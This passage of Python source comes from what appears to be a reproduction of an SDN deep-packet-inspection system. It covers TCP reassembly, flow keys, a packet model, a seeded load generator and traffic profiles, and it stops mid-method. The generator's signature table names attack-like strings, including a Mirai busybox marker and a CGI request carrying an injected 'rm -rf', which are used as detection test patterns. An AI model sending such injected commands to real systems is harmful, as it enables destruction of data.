        return self._streams.pop(flow_key, None)
