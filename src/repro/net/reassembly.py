"""TCP stream reassembly.

The paper treats session reconstruction as a natural companion service to
DPI ("we plan to investigate ... session reconstruction", Section 7) and
relies on in-order flow bytes for stateful scanning.  This module provides
the substrate: per-flow, per-direction reassembly that tolerates
out-of-order arrival, retransmissions and overlapping segments, releasing
bytes exactly once and strictly in order — which is what the stateful
scanner's ``(DFA state, offset)`` bookkeeping requires.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.flows import FiveTuple
from repro.net.packet import Packet, TCPHeader


@dataclass
class ReassemblyStats:
    """Plain counters container."""
    segments: int = 0
    duplicate_segments: int = 0
    out_of_order_segments: int = 0
    bytes_released: int = 0


class StreamReassembler:
    """One direction of one TCP stream.

    Segments are positioned by sequence number; ``add_segment`` returns the
    bytes that became contiguous with everything already released (possibly
    empty while a gap exists).  Overlapping and duplicate data is trimmed so
    every stream byte is released exactly once.
    """

    #: Refuse to buffer more than this many out-of-order bytes per stream.
    MAX_BUFFERED_BYTES = 1 << 20

    def __init__(self, initial_seq: int = 0) -> None:
        self.next_seq = initial_seq
        self._pending: dict[int, bytes] = {}
        self.stats = ReassemblyStats()

    @property
    def buffered_bytes(self) -> int:
        """Bytes waiting out of order."""
        return sum(len(data) for data in self._pending.values())

    def add_segment(self, seq: int, data: bytes) -> bytes:
        """Insert a segment; returns newly in-order stream bytes."""
        self.stats.segments += 1
        if not data:
            return b""
        end = seq + len(data)
        if end <= self.next_seq:
            # Entirely old data: a retransmission.
            self.stats.duplicate_segments += 1
            return b""
        if seq < self.next_seq:
            # Partial overlap with released data: keep only the new tail.
            data = data[self.next_seq - seq :]
            seq = self.next_seq
        if seq > self.next_seq:
            self.stats.out_of_order_segments += 1
            self._store_pending(seq, data)
            return b""
        # In order: release it plus anything it unblocks.
        released = [data]
        self.next_seq = seq + len(data)
        while True:
            follow_on = self._take_pending()
            if follow_on is None:
                break
            released.append(follow_on)
        out = b"".join(released)
        self.stats.bytes_released += len(out)
        return out

    def _store_pending(self, seq: int, data: bytes) -> None:
        if self.buffered_bytes + len(data) > self.MAX_BUFFERED_BYTES:
            raise BufferError(
                f"reassembly buffer overflow at seq {seq} "
                f"({self.buffered_bytes} bytes already pending)"
            )
        existing = self._pending.get(seq)
        if existing is None or len(data) > len(existing):
            self._pending[seq] = data
        else:
            self.stats.duplicate_segments += 1

    def _take_pending(self) -> bytes | None:
        """Pop pending data overlapping ``next_seq``, trimmed to the new part."""
        for seq in sorted(self._pending):
            data = self._pending[seq]
            end = seq + len(data)
            if end <= self.next_seq:
                del self._pending[seq]
                self.stats.duplicate_segments += 1
                continue
            if seq <= self.next_seq:
                del self._pending[seq]
                fresh = data[self.next_seq - seq :]
                self.next_seq += len(fresh)
                return fresh
            return None
        return None


class TCPReassembler:
    """Reassembly across all flows: feed packets, get in-order stream bytes.

    Each direction of each 5-tuple gets its own :class:`StreamReassembler`,
    anchored at the sequence number of the first segment seen.  Without a
    modeled handshake the anchor is heuristic: if the *first* segment of a
    flow arrived out of order, its predecessors will surface as overlaps
    and be dropped as duplicates — the same failure mode a mid-stream tap
    has in practice.
    """

    def __init__(self) -> None:
        self._streams: dict = {}
        self.stats = ReassemblyStats()

    def __len__(self) -> int:
        return len(self._streams)

    def add_packet(self, packet: Packet) -> tuple:
        """Returns ``(flow key, released bytes)`` for a TCP data packet.

        Non-TCP packets pass through unreassembled: the payload is returned
        as-is under the packet's flow key.
        """
        flow_key = FiveTuple.of(packet)
        if not isinstance(packet.l4, TCPHeader):
            return flow_key, packet.payload
        stream = self._streams.get(flow_key)
        if stream is None:
            stream = StreamReassembler(initial_seq=packet.l4.seq)
            self._streams[flow_key] = stream
        released = stream.add_segment(packet.l4.seq, packet.payload)
        self.stats.segments += 1
        self.stats.bytes_released += len(released)
        return flow_key, released

    def stream_of(self, flow_key) -> StreamReassembler | None:
        """The per-direction reassembler of a flow, or None."""
        return self._streams.get(flow_key)

    def close_flow(self, flow_key) -> StreamReassembler | None:
        """Drop a finished flow's state (e.g. on FIN/RST or idle timeout)."""
        return self._streams.pop(flow_key, None)
