"""Flow identification helpers.

The DPI service keeps per-flow scan state (DFA state + byte offset) for
stateful middleboxes, keyed by the classic 5-tuple.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.addresses import IPv4Address
from repro.net.packet import Packet


@dataclass(frozen=True, order=True)
class FiveTuple:
    """The (src ip, dst ip, protocol, src port, dst port) flow key."""

    src_ip: IPv4Address
    dst_ip: IPv4Address
    protocol: int
    src_port: int
    dst_port: int

    @classmethod
    def of(cls, packet: Packet) -> "FiveTuple":
        """Extract the 5-tuple of a packet."""
        return cls(
            src_ip=packet.ip.src,
            dst_ip=packet.ip.dst,
            protocol=packet.ip.protocol,
            src_port=packet.l4.src_port,
            dst_port=packet.l4.dst_port,
        )

    def reversed(self) -> "FiveTuple":
        """The key of the opposite direction of the same conversation."""
        return FiveTuple(
            src_ip=self.dst_ip,
            dst_ip=self.src_ip,
            protocol=self.protocol,
            src_port=self.dst_port,
            dst_port=self.src_port,
        )

    def bidirectional_key(self) -> tuple:
        """A direction-agnostic key: both directions map to the same value."""
        forward = (
            int(self.src_ip),
            self.src_port,
            int(self.dst_ip),
            self.dst_port,
        )
        backward = (
            int(self.dst_ip),
            self.dst_port,
            int(self.src_ip),
            self.src_port,
        )
        return (self.protocol,) + min(forward, backward) + max(forward, backward)

    def __str__(self) -> str:
        proto = {6: "tcp", 17: "udp"}.get(self.protocol, str(self.protocol))
        return (
            f"{proto}:{self.src_ip}:{self.src_port}"
            f"->{self.dst_ip}:{self.dst_port}"
        )
