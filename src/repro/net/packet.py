"""Packet model for the simulated data plane.

A :class:`Packet` carries an Ethernet header, an optional stack of VLAN/MPLS
tags (used by the traffic steering application for policy-chain
identification, Section 4.1 of the paper), an IPv4 header whose ECN field is
reused by the DPI service as the "has matches" mark (Section 6.1), an L4
header, an optional NSH-style metadata context (Section 4.2, option 1), and a
payload.

Payloads are ``bytes``.  Headers may be rewritten by middleboxes (e.g. NAT),
but the payload is treated as immutable along the chain — the property the
paper relies on to scan once and reuse the results.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field, replace

from repro.net.addresses import IPv4Address, MACAddress

ETHERTYPE_IPV4 = 0x0800
ETHERTYPE_VLAN = 0x8100
ETHERTYPE_MPLS = 0x8847
ETHERTYPE_NSH = 0x894F

PROTO_TCP = 6
PROTO_UDP = 17

_packet_ids = itertools.count(1)


def allocate_packet_id() -> int:
    """Allocate a globally unique packet id (used when synthesizing packets
    that are not built through the :class:`Packet` constructor defaults)."""
    return next(_packet_ids)


@dataclass(frozen=True)
class EthernetHeader:
    """Ethernet II header (14 bytes on the wire)."""

    src: MACAddress
    dst: MACAddress
    ethertype: int = ETHERTYPE_IPV4

    WIRE_LENGTH = 14


@dataclass(frozen=True)
class VlanTag:
    """An 802.1Q tag (4 bytes); ``vid`` carries the policy-chain identifier."""

    vid: int
    pcp: int = 0

    WIRE_LENGTH = 4

    def __post_init__(self) -> None:
        if not 0 <= self.vid < 4096:
            raise ValueError(f"VLAN VID out of range: {self.vid}")
        if not 0 <= self.pcp < 8:
            raise ValueError(f"VLAN PCP out of range: {self.pcp}")


@dataclass(frozen=True)
class MplsLabel:
    """An MPLS label stack entry (4 bytes)."""

    label: int
    tc: int = 0
    bottom_of_stack: bool = True

    WIRE_LENGTH = 4

    def __post_init__(self) -> None:
        if not 0 <= self.label < (1 << 20):
            raise ValueError(f"MPLS label out of range: {self.label}")


@dataclass(frozen=True)
class IPv4Header:
    """IPv4 header (20 bytes, no options).

    ``ecn`` is reused by the DPI service instance as the match mark: a packet
    whose payload matched at least one pattern has ``ecn != 0`` so that
    middleboxes know a result packet follows (paper Section 6.1).
    """

    src: IPv4Address
    dst: IPv4Address
    protocol: int = PROTO_TCP
    ttl: int = 64
    ecn: int = 0
    dscp: int = 0

    WIRE_LENGTH = 20

    def __post_init__(self) -> None:
        if not 0 <= self.ecn < 4:
            raise ValueError(f"ECN out of range: {self.ecn}")
        if not 0 <= self.ttl < 256:
            raise ValueError(f"TTL out of range: {self.ttl}")


@dataclass(frozen=True)
class TCPHeader:
    """TCP header (20 bytes, no options)."""

    src_port: int
    dst_port: int
    seq: int = 0
    ack: int = 0
    flags: int = 0

    WIRE_LENGTH = 20

    def __post_init__(self) -> None:
        for port in (self.src_port, self.dst_port):
            if not 0 <= port < 65536:
                raise ValueError(f"TCP port out of range: {port}")


@dataclass(frozen=True)
class UDPHeader:
    """UDP header (8 bytes)."""

    src_port: int
    dst_port: int

    WIRE_LENGTH = 8

    def __post_init__(self) -> None:
        for port in (self.src_port, self.dst_port):
            if not 0 <= port < 65536:
                raise ValueError(f"UDP port out of range: {port}")


@dataclass(frozen=True)
class NSHContext:
    """NSH-style service-chain metadata (paper Section 4.2, option 1).

    ``service_path`` identifies the policy chain; ``metadata`` carries the
    encoded DPI match report so downstream middleboxes can read the scan
    results without rescanning the payload.
    """

    service_path: int
    service_index: int = 255
    metadata: bytes = b""

    BASE_WIRE_LENGTH = 8

    @property
    def wire_length(self) -> int:
        """Total bytes on the wire, headers included."""
        return self.BASE_WIRE_LENGTH + len(self.metadata)


@dataclass
class Packet:
    """A simulated packet.

    The dataclass is mutable so that switches can push/pop tags and the DPI
    service can set the ECN mark, mirroring OpenFlow actions; the *payload*
    however must never be mutated in place (middleboxes rely on it being
    identical at every hop).
    """

    eth: EthernetHeader
    ip: IPv4Header
    l4: TCPHeader | UDPHeader
    payload: bytes = b""
    vlan_stack: list[VlanTag] = field(default_factory=list)
    mpls_stack: list[MplsLabel] = field(default_factory=list)
    nsh: NSHContext | None = None
    packet_id: int = field(default_factory=lambda: next(_packet_ids))
    # Set on DPI result packets: the id of the data packet they describe.
    describes_packet_id: int | None = None
    # Telemetry trace context, a (trace id, span id) tuple stamped by the
    # origin host.  Copies and result packets inherit it so one trace
    # follows the packet end-to-end; excluded from equality.
    trace: tuple | None = field(default=None, compare=False, repr=False)

    @property
    def is_result_packet(self) -> bool:
        """True for dedicated match-report packets (Section 4.2, option 3)."""
        return self.describes_packet_id is not None

    @property
    def wire_length(self) -> int:
        """Total bytes this packet occupies on the wire."""
        length = (
            self.eth.WIRE_LENGTH
            + self.ip.WIRE_LENGTH
            + self.l4.WIRE_LENGTH
            + len(self.payload)
        )
        length += VlanTag.WIRE_LENGTH * len(self.vlan_stack)
        length += MplsLabel.WIRE_LENGTH * len(self.mpls_stack)
        if self.nsh is not None:
            length += self.nsh.wire_length
        return length

    # --- tag manipulation (OpenFlow push/pop actions) -------------------

    def push_vlan(self, tag: VlanTag) -> None:
        """Push a VLAN tag onto the stack."""
        self.vlan_stack.append(tag)

    def pop_vlan(self) -> VlanTag:
        """Pop the outer VLAN tag; raises on an empty stack."""
        if not self.vlan_stack:
            raise IndexError("pop from empty VLAN stack")
        return self.vlan_stack.pop()

    @property
    def outer_vlan(self) -> VlanTag | None:
        """The outermost VLAN tag, or None."""
        return self.vlan_stack[-1] if self.vlan_stack else None

    def push_mpls(self, label: MplsLabel) -> None:
        """Push an MPLS label onto the stack."""
        self.mpls_stack.append(label)

    def pop_mpls(self) -> MplsLabel:
        """Pop the outer MPLS label; raises on an empty stack."""
        if not self.mpls_stack:
            raise IndexError("pop from empty MPLS stack")
        return self.mpls_stack.pop()

    @property
    def outer_mpls(self) -> MplsLabel | None:
        """The outermost MPLS label, or None."""
        return self.mpls_stack[-1] if self.mpls_stack else None

    # --- DPI match marking ----------------------------------------------

    def mark_matched(self) -> None:
        """Set the ECN-based "payload had matches" mark (Section 6.1)."""
        self.ip = replace(self.ip, ecn=1)

    def clear_match_mark(self) -> None:
        """Clear the ECN-based match mark."""
        self.ip = replace(self.ip, ecn=0)

    @property
    def is_marked_matched(self) -> bool:
        """True when the DPI service marked this packet as matched."""
        return self.ip.ecn != 0

    # --- misc -------------------------------------------------------------

    def copy(self) -> "Packet":
        """A deep-enough copy: header stacks are copied, payload is shared."""
        return Packet(
            eth=self.eth,
            ip=self.ip,
            l4=self.l4,
            payload=self.payload,
            vlan_stack=list(self.vlan_stack),
            mpls_stack=list(self.mpls_stack),
            nsh=self.nsh,
            packet_id=self.packet_id,
            describes_packet_id=self.describes_packet_id,
            trace=self.trace,
        )

    def __repr__(self) -> str:
        kind = "result" if self.is_result_packet else "data"
        return (
            f"<Packet #{self.packet_id} {kind} {self.ip.src}:{self.l4.src_port}"
            f" -> {self.ip.dst}:{self.l4.dst_port} len={self.wire_length}>"
        )


def make_tcp_packet(
    src_mac: MACAddress,
    dst_mac: MACAddress,
    src_ip: IPv4Address,
    dst_ip: IPv4Address,
    src_port: int,
    dst_port: int,
    payload: bytes = b"",
    seq: int = 0,
) -> Packet:
    """Convenience constructor for a plain TCP data packet."""
    return Packet(
        eth=EthernetHeader(src=src_mac, dst=dst_mac),
        ip=IPv4Header(src=src_ip, dst=dst_ip, protocol=PROTO_TCP),
        l4=TCPHeader(src_port=src_port, dst_port=dst_port, seq=seq),
        payload=payload,
    )


def make_udp_packet(
    src_mac: MACAddress,
    dst_mac: MACAddress,
    src_ip: IPv4Address,
    dst_ip: IPv4Address,
    src_port: int,
    dst_port: int,
    payload: bytes = b"",
) -> Packet:
    """Convenience constructor for a plain UDP data packet."""
    return Packet(
        eth=EthernetHeader(src=src_mac, dst=dst_mac),
        ip=IPv4Header(src=src_ip, dst=dst_ip, protocol=PROTO_UDP),
        l4=UDPHeader(src_port=src_port, dst_port=dst_port),
        payload=payload,
    )
