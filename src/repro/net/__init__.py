"""Simulated SDN substrate: packets, switches, links, controller, steering.

This subpackage replaces the paper's Mininet/OpenFlow/POX environment with a
deterministic discrete-event simulator.  It models:

* L2-L4 packets with a VLAN/MPLS tag stack, ECN marking, and NSH metadata
  (:mod:`repro.net.packet`);
* OpenFlow-style switches with prioritized flow tables and table-miss
  packet-in handling (:mod:`repro.net.switch`, :mod:`repro.net.openflow`);
* bandwidth/latency links with FIFO queues (:mod:`repro.net.links`);
* an SDN controller (:mod:`repro.net.controller`) and a SIMPLE-style traffic
  steering application (:mod:`repro.net.steering`) that routes packets along
  policy chains.
"""

from repro.net.addresses import MACAddress, IPv4Address
from repro.net.packet import (
    EthernetHeader,
    IPv4Header,
    TCPHeader,
    UDPHeader,
    VlanTag,
    MplsLabel,
    NSHContext,
    Packet,
)
from repro.net.flows import FiveTuple
from repro.net.simulator import Simulator, Event
from repro.net.links import Link
from repro.net.openflow import FlowMatch, FlowAction, FlowEntry, FlowTable, ActionType
from repro.net.switch import Switch
from repro.net.host import Host, NetworkFunction
from repro.net.topology import Topology, build_paper_topology
from repro.net.controller import SDNController
from repro.net.steering import PolicyChain, TrafficSteeringApplication
from repro.net.reassembly import StreamReassembler, TCPReassembler

__all__ = [
    "MACAddress",
    "IPv4Address",
    "EthernetHeader",
    "IPv4Header",
    "TCPHeader",
    "UDPHeader",
    "VlanTag",
    "MplsLabel",
    "NSHContext",
    "Packet",
    "FiveTuple",
    "Simulator",
    "Event",
    "Link",
    "FlowMatch",
    "FlowAction",
    "FlowEntry",
    "FlowTable",
    "ActionType",
    "Switch",
    "Host",
    "NetworkFunction",
    "Topology",
    "build_paper_topology",
    "SDNController",
    "PolicyChain",
    "TrafficSteeringApplication",
    "StreamReassembler",
    "TCPReassembler",
]
