"""Seeded streaming load generator with compact per-flow state.

Scales to ~10^6 concurrent flows by never holding per-flow objects: flow
state is two parallel ``array`` columns (profile index, packets remaining)
plus an ``array('q')`` of the currently-active flow ids.  All per-packet
randomness is derived on the fly from a 64-bit integer mixer over
``(seed, flow_id, epoch, k)``, so two generators built from the same spec
produce byte-identical batches without storing a single RNG per flow.

Payloads are drawn from small per-profile pools built once at startup from
seeded RNGs; a heavy-hitter pool (match-dense, oversized) serves the flows
a profile marks via ``heavy_every``.  :meth:`LoadGenerator.batches` is a
lazy iterator — the driver consumes one epoch at a time and whole traces
are never materialized.
"""

from __future__ import annotations

import random
from array import array
from dataclasses import dataclass, field
from typing import Iterator

from repro.load.profiles import PROFILES, LoadSpec, TrafficProfile, resolve_mix
from repro.workloads.attacks import match_flood_payload

_MASK64 = (1 << 64) - 1
_GOLDEN = 0x9E3779B97F4A7C15

#: Payload variants per profile pool; small enough to build instantly,
#: large enough that scans do not degenerate to one cached payload.
POOL_SIZE = 32
HEAVY_POOL_SIZE = 8
HEAVY_PAYLOAD_BYTES = 1400

#: The signature corpus the load scenario registers with its middleboxes.
#: Generator payload pools inject these at each profile's ``match_rate``.
SIGNATURES: dict[str, list[bytes]] = {
    "ids": [
        b"/bin/busybox MIRAI",
        b"GET /cgi-bin/;rm+-rf",
        b"default-telnet-pass",
        b"mirai-scan-botnet",
    ],
    "av": [
        b"exfil-marker-xyz",
        b"quic-c2-beacon!!",
        b"tracking-pixel.gif",
    ],
}

_BENIGN_SNIPPETS = [
    b"GET /index.html HTTP/1.1\r\nHost: example.net\r\n",
    b"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>",
    b"<p>lorem ipsum dolor sit amet, consectetur adipiscing elit</p>",
    b"Cache-Control: max-age=3600\r\nAccept-Encoding: gzip\r\n",
    b"POST /api/v2/session HTTP/1.1\r\n{\"user\": \"anon\", \"ok\": true}",
]


def _mix(*parts: int) -> int:
    """A splitmix64-style mixer: deterministic, order-sensitive, cheap."""
    state = _GOLDEN
    for part in parts:
        state = (state ^ (part & _MASK64)) * 0xBF58476D1CE4E5B9 & _MASK64
        state ^= state >> 31
        state = state * 0x94D049BB133111EB & _MASK64
        state ^= state >> 29
    return state


def all_signatures() -> list[bytes]:
    """Every registered signature, sorted (determinism helper)."""
    merged: list[bytes] = []
    for middlebox in sorted(SIGNATURES):
        merged.extend(SIGNATURES[middlebox])
    return sorted(merged)


def _build_pool(profile: TrafficProfile, seed: int) -> list[bytes]:
    """POOL_SIZE seeded payload variants for one profile."""
    rng = random.Random(("load-pool", profile.name, seed).__repr__())
    signatures = all_signatures()
    low, high = profile.payload_bytes
    pool: list[bytes] = []
    for _ in range(POOL_SIZE):
        size = rng.randint(low, high)
        chunks: list[bytes] = []
        total = 0
        while total < size:
            snippet = rng.choice(_BENIGN_SNIPPETS)
            chunks.append(snippet)
            total += len(snippet)
        payload = bytearray(b"".join(chunks)[:size])
        # Scramble a slice so pool entries differ beyond snippet order.
        for index in range(0, size, 7):
            payload[index] = rng.randrange(32, 127)
        if profile.match_rate > 0 and rng.random() < profile.match_rate:
            signature = rng.choice(signatures)
            if len(signature) <= size:
                offset = rng.randrange(0, size - len(signature) + 1)
                payload[offset : offset + len(signature)] = signature
        pool.append(bytes(payload))
    return pool


def _build_heavy_pool(seed: int) -> list[bytes]:
    """Match-dense oversized payloads for flagged heavy-hitter flows."""
    return [
        match_flood_payload(
            all_signatures(), HEAVY_PAYLOAD_BYTES, seed=seed * 101 + variant
        )
        for variant in range(HEAVY_POOL_SIZE)
    ]


@dataclass
class LoadBatch:
    """One epoch's worth of packets plus generator accounting."""

    epoch: int
    #: ``(flow_id, chain_id, payload, heavy)`` per packet, arrival order.
    items: list[tuple[int, int, bytes, bool]]
    concurrent_flows: int
    spawned: int
    completed: int
    #: Packets over ``max_packets_per_epoch`` dropped by the harness cap.
    suppressed: int

    @property
    def offered_bytes(self) -> int:
        return sum(len(payload) for _, _, payload, _ in self.items)


@dataclass
class GeneratorStats:
    flows_started: int = 0
    flows_completed: int = 0
    packets_emitted: int = 0
    packets_suppressed: int = 0
    heavy_flows: int = 0
    spawned_by_profile: dict[str, int] = field(default_factory=dict)


class LoadGenerator:
    """Streams :class:`LoadBatch` epochs for a :class:`LoadSpec`."""

    _HEAVY_BIT = 0x80

    def __init__(self, spec: LoadSpec) -> None:
        self.spec = spec
        self.mix = resolve_mix(spec.profile_mix)
        self.profiles: list[TrafficProfile] = [profile for profile, _ in self.mix]
        if len(self.profiles) >= self._HEAVY_BIT:
            raise ValueError("too many profiles for packed flow state")
        self._weights = [weight for _, weight in self.mix]
        self._pools = [
            _build_pool(profile, spec.seed) for profile in self.profiles
        ]
        self._heavy_pool = _build_heavy_pool(spec.seed)
        # Parallel columns indexed by flow id: packed profile index (heavy
        # bit folded in) and remaining packet budget.  Append-only.
        self._profile_of = array("B")
        self._packets_left = array("i")
        self._active = array("q")
        self._spawn_counts = [0] * len(self.profiles)
        self._next_flow_id = 0
        self.stats = GeneratorStats()

    # -- spawning ---------------------------------------------------------

    def _pick_profile(self, flow_id: int) -> int:
        point = _mix(self.spec.seed, flow_id, 0xA11CE) / 2.0**64
        cumulative = 0.0
        for index, weight in enumerate(self._weights):
            cumulative += weight
            if point < cumulative:
                return index
        return len(self._weights) - 1

    def _spawn(self, count: int) -> int:
        spawned = 0
        seed = self.spec.seed
        for _ in range(count):
            flow_id = self._next_flow_id
            self._next_flow_id += 1
            index = self._pick_profile(flow_id)
            profile = self.profiles[index]
            low, high = profile.packets_per_flow
            budget = low + _mix(seed, flow_id, 0xB0D6E7) % (high - low + 1)
            packed = index
            self._spawn_counts[index] += 1
            if (
                profile.heavy_every
                and self._spawn_counts[index] % profile.heavy_every == 0
            ):
                packed |= self._HEAVY_BIT
                self.stats.heavy_flows += 1
            self._profile_of.append(packed)
            self._packets_left.append(budget)
            self._active.append(flow_id)
            spawned += 1
            name = profile.name
            by_profile = self.stats.spawned_by_profile
            by_profile[name] = by_profile.get(name, 0) + 1
        self.stats.flows_started += spawned
        return spawned

    # -- emission ---------------------------------------------------------

    def batches(self) -> Iterator[LoadBatch]:
        """Yield one :class:`LoadBatch` per epoch, lazily."""
        spec = self.spec
        seed = spec.seed
        cap = spec.max_packets_per_epoch
        profile_of = self._profile_of
        packets_left = self._packets_left
        for epoch in range(spec.epochs):
            target = spec.target_flows(epoch)
            spawned = self._spawn(max(0, target - len(self._active)))
            items: list[tuple[int, int, bytes, bool]] = []
            suppressed = 0
            completed = 0
            survivors = array("q")
            for flow_id in self._active:
                packed = profile_of[flow_id]
                profile = self.profiles[packed & (self._HEAVY_BIT - 1)]
                heavy = bool(packed & self._HEAVY_BIT)
                roll = _mix(seed, flow_id, epoch)
                emits = (roll & 0xFFFFFFFF) / 2.0**32 < profile.emit_probability
                if emits:
                    low, high = profile.burst
                    burst = low + (roll >> 32) % (high - low + 1)
                    burst = min(burst, packets_left[flow_id])
                    pool = self._heavy_pool if heavy else (
                        self._pools[packed & (self._HEAVY_BIT - 1)]
                    )
                    chain_id = profile.chain_id
                    for k in range(burst):
                        if len(items) < cap:
                            payload = pool[_mix(seed, flow_id, epoch, k) % len(pool)]
                            items.append((flow_id, chain_id, payload, heavy))
                        else:
                            suppressed += 1
                    packets_left[flow_id] -= burst
                if packets_left[flow_id] <= 0:
                    completed += 1
                else:
                    survivors.append(flow_id)
            self._active = survivors
            self.stats.flows_completed += completed
            self.stats.packets_emitted += len(items)
            self.stats.packets_suppressed += suppressed
            yield LoadBatch(
                epoch=epoch,
                items=items,
                concurrent_flows=len(survivors),
                spawned=spawned,
                completed=completed,
                suppressed=suppressed,
            )

    @property
    def active_flows(self) -> int:
        return len(self._active)

    def profile_name_of(self, flow_id: int) -> str:
        """The profile a spawned flow belongs to (bench ground truth)."""
        if not 0 <= flow_id < len(self._profile_of):
            raise KeyError(f"flow {flow_id} was never spawned")
        packed = self._profile_of[flow_id]
        return self.profiles[packed & (self._HEAVY_BIT - 1)].name

    def is_heavy(self, flow_id: int) -> bool:
        """True when a spawned flow was marked a heavy hitter."""
        if not 0 <= flow_id < len(self._profile_of):
            raise KeyError(f"flow {flow_id} was never spawned")
        return bool(self._profile_of[flow_id] & self._HEAVY_BIT)


def profile_of_chain(chain_id: int) -> str:
    """Reverse lookup: chain id -> profile name (driver/report helper)."""
    for name in sorted(PROFILES):
        if PROFILES[name].chain_id == chain_id:
            return name
    raise KeyError(f"no profile rides chain {chain_id}")
