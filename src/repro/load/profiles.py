"""Traffic profiles, ramp schedules and the serializable LoadSpec.

A *profile* describes one population of flows (packet sizes, lifetime,
burstiness, how often its payloads carry a signature).  A *mix* is a named
weighting over profiles — ``repro-dpi load --profile mixed`` resolves the
mix name here.  A :class:`LoadSpec` bundles everything a run needs (mix,
peak flow count, ramp schedule, seed, SLO, modeled per-instance service
rate) and round-trips through JSON so scenarios can live in files and be
validated by the ``LOAD0xx`` codes in :mod:`repro.analysis.validators`.

Everything is deterministic given the spec's seed: payload pools are built
from seeded RNGs and per-packet choices use a cheap integer mixer over
``(seed, flow_id, epoch, k)`` so the generator never stores per-flow RNG
state (that is what lets it hold ~10^6 concurrent flows).
"""

from __future__ import annotations

import json
import math
from dataclasses import dataclass, field, replace
from typing import Any, Mapping

#: Policy-chain ids the load scenario steers each profile through.  They are
#: arbitrary but stable: the driver installs chains with exactly these ids.
CHAIN_WEB = 100
CHAIN_FLOOD = 200
CHAIN_LONG = 300


@dataclass(frozen=True)
class TrafficProfile:
    """Shape of one flow population.

    ``emit_probability`` is the per-epoch chance an active flow sends at
    all; ``burst`` bounds how many packets it sends when it does.  A
    ``heavy_every`` of N marks every Nth flow of this profile as a heavy
    hitter (match-dense, oversized payloads) — 0 disables heavy hitters.
    """

    name: str
    chain_id: int
    payload_bytes: tuple[int, int]
    packets_per_flow: tuple[int, int]
    emit_probability: float
    burst: tuple[int, int]
    match_rate: float
    heavy_every: int = 0


#: The three populations the ISSUE calls for: short benign web flows,
#: mirai-style floods (small bursty signature-bearing packets, sparse heavy
#: hitters), and long-lived QUIC-like flows that are mostly idle.
PROFILES: dict[str, TrafficProfile] = {
    "benign-http": TrafficProfile(
        name="benign-http",
        chain_id=CHAIN_WEB,
        payload_bytes=(200, 1200),
        packets_per_flow=(2, 8),
        emit_probability=0.6,
        burst=(1, 2),
        match_rate=0.02,
    ),
    "mirai-burst": TrafficProfile(
        name="mirai-burst",
        chain_id=CHAIN_FLOOD,
        payload_bytes=(60, 220),
        packets_per_flow=(20, 80),
        emit_probability=0.9,
        burst=(4, 10),
        match_rate=0.5,
        heavy_every=97,
    ),
    "quic-long": TrafficProfile(
        name="quic-long",
        chain_id=CHAIN_LONG,
        payload_bytes=(500, 1300),
        packets_per_flow=(200, 100_000),
        emit_probability=0.15,
        burst=(1, 2),
        match_rate=0.0,
    ),
}

#: Named mixes; weights need not sum to 1 (they are normalized).
MIXES: dict[str, dict[str, float]] = {
    "mixed": {"benign-http": 0.7, "mirai-burst": 0.2, "quic-long": 0.1},
    "benign": {"benign-http": 1.0},
    "flood": {"mirai-burst": 1.0},
    "long": {"quic-long": 1.0},
    # The anomaly-detection benchmark mix: mostly benign web traffic with
    # a mirai-burst minority to detect (labels come from the generator).
    "web-flood": {"benign-http": 0.75, "mirai-burst": 0.25},
}

RAMP_KINDS = ("constant", "linear", "step", "burst")

#: Load scenarios the driver knows how to build (CLI positional choices).
SCENARIOS = ("service",)


def profile_vocabulary() -> tuple[str, ...]:
    """Every name ``LoadSpec.profile_mix`` may legally use (mixes first)."""
    return tuple(sorted(MIXES)) + tuple(sorted(PROFILES))


def resolve_mix(name: str) -> list[tuple[TrafficProfile, float]]:
    """A mix or single-profile name -> normalized (profile, weight) list."""
    if name in MIXES:
        weights = MIXES[name]
    elif name in PROFILES:
        weights = {name: 1.0}
    else:
        raise KeyError(
            f"unknown profile or mix: {name!r} "
            f"(known: {', '.join(profile_vocabulary())})"
        )
    total = sum(weights.values())
    return [
        (PROFILES[profile_name], weight / total)
        for profile_name, weight in sorted(weights.items())
    ]


@dataclass(frozen=True)
class RampSchedule:
    """Target concurrent-flow fraction per epoch.

    * ``constant`` — full target from epoch 0.
    * ``linear`` — ramps from ``floor_fraction`` to 1.0 over the run.
    * ``step`` — ``floor_fraction`` until ``step_epoch``, then 1.0.
    * ``burst`` — alternates ``period`` epochs at 1.0 with ``period``
      epochs back at ``floor_fraction``.
    """

    kind: str = "constant"
    floor_fraction: float = 0.1
    step_epoch: int = 0
    period: int = 4

    def fraction(self, epoch: int, epochs: int) -> float:
        """Fraction of the peak flow count that should be live at *epoch*."""
        if self.kind == "constant":
            return 1.0
        if self.kind == "linear":
            if epochs <= 1:
                return 1.0
            span = 1.0 - self.floor_fraction
            return self.floor_fraction + span * (epoch / (epochs - 1))
        if self.kind == "step":
            return 1.0 if epoch >= self.step_epoch else self.floor_fraction
        if self.kind == "burst":
            on = (epoch // max(1, self.period)) % 2 == 0
            return 1.0 if on else self.floor_fraction
        raise ValueError(f"unknown ramp kind: {self.kind!r}")

    def to_dict(self) -> dict[str, Any]:
        return {
            "kind": self.kind,
            "floor_fraction": self.floor_fraction,
            "step_epoch": self.step_epoch,
            "period": self.period,
        }

    @classmethod
    def from_dict(cls, payload: Mapping[str, Any]) -> "RampSchedule":
        return cls(
            kind=str(payload.get("kind", "constant")),
            floor_fraction=float(payload.get("floor_fraction", 0.1)),
            step_epoch=int(payload.get("step_epoch", 0)),
            period=int(payload.get("period", 4)),
        )


@dataclass(frozen=True)
class LoadSpec:
    """Everything one load run needs; JSON round-trips via to/from_dict.

    ``rate_mbps`` is the *modeled* per-instance scan service rate used by
    the deterministic queueing model (see :mod:`repro.load.driver`) — the
    real kernels still scan every payload, but latency/SLO accounting is
    derived from this rate so digests do not depend on wall-clock timing.
    """

    profile_mix: str = "mixed"
    flows: int = 2000
    epochs: int = 20
    epoch_seconds: float = 0.1
    seed: int = 7
    slo_ms: float = 50.0
    rate_mbps: float = 40.0
    initial_instances: int = 1
    max_packets_per_epoch: int = 5000
    ramp: RampSchedule = field(default_factory=RampSchedule)

    @property
    def slo_seconds(self) -> float:
        return self.slo_ms / 1e3

    @property
    def rate_bytes_per_second(self) -> float:
        return self.rate_mbps * 1e6 / 8.0

    def target_flows(self, epoch: int) -> int:
        """Concurrent-flow target at *epoch* under the ramp schedule."""
